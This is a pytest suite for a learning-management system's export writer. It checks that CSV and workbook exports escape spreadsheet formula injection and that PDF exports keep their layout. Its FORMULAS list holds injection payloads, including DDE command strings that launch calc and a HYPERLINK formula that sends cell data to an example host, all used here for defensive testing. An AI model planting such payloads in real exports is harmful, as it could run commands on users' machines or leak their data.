"""The one writer: what goes in comes out, in three formats, and no spreadsheet finds a formula in it."""

import csv
import io
import subprocess
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from lms.exports.writer import Table, write_table
from lms.exports.writer.formulas import guarded, unguarded
from lms.records.export_kinds import Column

# What a spreadsheet would run, and what it must go on showing as it is.
FORMULAS = [
    '=HYPERLINK("https://example.org/?"&A1,"premio")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0=1+1",
    "'=1+1",
    '"=1+1',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",
    "−1",
    "Pérez,=1+1",
    "Pérez;=1+1",
    "Pérez; =1+1",
    'Pérez";"=1+1',
    "Pérez\t=1+1",
    "Pérez|=1+1",
    "Pérez\n=1+1",
    "Pérez\r\n@SUM(A1)",
    "+503 2222 2222",
    "-5",
    "=",
]
HARMLESS = ["Ñáñez Güell", "O’Higgins", "d'Aubuisson", "fiscal@example.org", "a=b", "2+2", "ex-fiscal", "", "1,5"]
DANGEROUS = tuple("=+-@\t\r＝＋－＠﹢﹣﹦﹫−")


def table(rows, columns=("Texto",), **more):
    return Table("Registro de ensayo", [("Hecho el", "hoy")], [Column(name) for name in columns], rows, **more)


def written(made: Table, file_format: str) -> bytes:
    stream = io.BytesIO()
    write_table(made, stream, file_format=file_format)
    return stream.getvalue()


def csv_rows(content: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def sheet_of(content: bytes):
    return load_workbook(io.BytesIO(content)).active


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_no_formula_in_csv_whatever_the_reader_splits_at(text, delimiter):
    content = written(table([(text, "fin")], columns=("Texto", "Otro")), "CSV")

    cells = [cell for row in csv_rows(content, delimiter) for cell in row]
    lines = content.decode("utf-8-sig").splitlines()

    bare = [cell.strip("\"' \u200b\ufeff\u00a0") for cell in cells]
    found = [cell for cell, stripped in zip(cells, bare, strict=True) if stripped.startswith(DANGEROUS)]
    assert all("'" in cell[: len(cell) - len(cell.lstrip("\"' \u200b\ufeff\u00a0"))] for cell in found), found
    assert not [line for line in lines if line.startswith(DANGEROUS)]


def test_the_check_of_csv_sees_a_formula_that_was_let_through():
    """A control: the plain module's answer to the same row is a formula."""
    stream = io.StringIO(newline="")
    csv.writer(stream).writerow(["=1+1"])

    assert csv_rows(b"\xef\xbb\xbf" + stream.getvalue().encode())[0][0].startswith(DANGEROUS)


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_formula_in_a_workbook(text):
    sheet = sheet_of(written(table([(text,)]), "XLSX"))

    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert sheet["A5"].quotePrefix
    assert sheet["A5"].value == "".join(max(mark, " ") for mark in text).strip() or text.strip() == ""


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text):
    assert guarded(text) == text
    assert csv_rows(written(table([(text,)]), "CSV"))[-1] in ([text], [])


@given(st.text(alphabet=st.sampled_from("=+-@＝－'\" ,;|\taÑ1\u200b"), max_size=12))
def test_guarding_loses_nothing(text):
    assert unguarded(guarded(text)) == text


@given(st.text(max_size=30))
def test_guarding_loses_nothing_of_any_text(text):
    assert unguarded(guarded(text)) == text


def test_numbers_days_and_instants_stay_what_they_are():
    at = datetime(2026, 12, 1, 20, 30, tzinfo=UTC)
    row = (-7, Decimal("-9.50"), date(2026, 12, 1), at, None, "-7")
    columns = ("Entero", "Decimal", "Día", "Hora", "Nada", "Texto")

    with timezone.override("America/El_Salvador"):
        lines = csv_rows(written(table([row], columns), "CSV"))
        sheet = sheet_of(written(table([row], columns), "XLSX"))

    assert lines[-1] == ["-7", "-9.50", "2026-12-01", "2026-12-01 14:30", "", "'-7"]
    cells = next(sheet.iter_rows(min_row=5, max_row=5))
    assert [cell.data_type for cell in cells] == ["n", "n", "d", "d", "n", "s"]
    assert [cell.value for cell in cells] == [
        -7, -9.5, datetime(2026, 12, 1), datetime(2026, 12, 1, 14, 30), None, "-7",
    ]  # fmt: skip


def test_head_of_csv_and_workbook():
    content = written(table([("uno",)]), "CSV")
    sheet = sheet_of(written(table([("uno",)]), "XLSX"))

    assert content.startswith(b"\xef\xbb\xbf")
    assert csv_rows(content) == [["Registro de ensayo"], ["Hecho el", "hoy"], [], ["Texto"], ["uno"]]
    assert [sheet["A1"].value, sheet["A2"].value, sheet["B2"].value] == ["Registro de ensayo", "Hecho el", "hoy"]
    assert (sheet["A4"].value, sheet.freeze_panes, sheet.auto_filter.ref) == ("Texto", "A5", "A4:A5")


def paper_text(content: bytes) -> str:
    done = subprocess.run(["pdftotext", "-layout", "-", "-"], input=content, capture_output=True, check=True)
    return done.stdout.decode()


def test_paper_numbers_its_pages_and_repeats_its_head():
    rows = [(f"Fila {number} ñandú", number) for number in range(1, 451)]
    text = paper_text(written(table(rows, ("Nombre", "Número"), footer="Solo la Secretaría"), "PDF"))

    pages = text.split("\f")[:-1]
    assert len(pages) > 10
    assert all("Nombre" in page and "Número" in page and "Solo la Secretaría" in page for page in pages)
    assert [f"Page {number} of {len(pages)}" in page or f"Página {number} de {len(pages)}" in page
            for number, page in enumerate(pages, start=1)] == [True] * len(pages)  # fmt: skip
    assert all(f"Fila {number} ñandú" in text for number in range(1, 451))
    assert text.count("Nombre") == len(pages)


def test_paper_of_nothing_says_so_and_takes_markup_for_text():
    text = paper_text(written(table([]), "PDF"))
    marked = paper_text(written(table([("<b>&amp;</b> =1+1",)]), "PDF"))

    assert "Registro de ensayo" in text
    assert "<b>&amp;</b> =1+1" in marked
